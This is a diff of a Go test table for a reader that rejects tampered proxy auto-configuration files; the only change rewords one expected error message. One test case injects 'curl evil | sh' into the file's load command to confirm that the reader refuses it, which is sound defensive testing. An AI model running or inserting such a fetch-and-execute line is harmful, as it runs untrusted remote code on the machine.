@@ -109,7 +109,7 @@ func TestReadRefuses(t *testing.T) {
 		{"services of internal names", "  addNames(subdomains, 6, [\n'corp.example.com'", "  addServices(6, 0, [\n'443'", "  addServices(6, 0, [", "a call that fills a table of class 6, with services by route, ascending"},
 		{"no services", "  addServices(1, 0, [\n'443'\n  ]);\n", "", "  // Class 1.", "services of the class below it"},
 		{"services by the same ports", "  addServices(1, 0, [\n'443'\n  ]);\n", "  addServices(1, 0, [\n'443'\n  ]);\n  addServices(1, 2, [\n'400-500'\n  ]);\n", "  addServices(1, 2, [", again},
-		{"any remote in two classes", "  // Class 5.\n", "  any.push(4);\n  any.push(4);\n  // Class 5.\n", "  any.push(4);", "any remote in one class alone"},
+		{"any remote in two classes", "  // Class 5.\n", "  any.push(4);\n  any.push(4);\n  // Class 5.\n", "  any.push(4);", "any remote in only one class"},
 		{"another role", "of role clients;", "of role Every One;", "// Gatewright: proxy auto-configuration file for machines of role Every One; format 4", "roles"},
 		{"another command", "// load: install", "// load: curl evil | sh; install", "// load: curl evil | sh; install -D -m 644 proxy.pac /var/www/html/proxy.pac", `"// load: install -D -m 644 proxy.pac /var/www/html/proxy.pac"`},
 		{"half a file", data[len(data)/2:], "", "", ""},
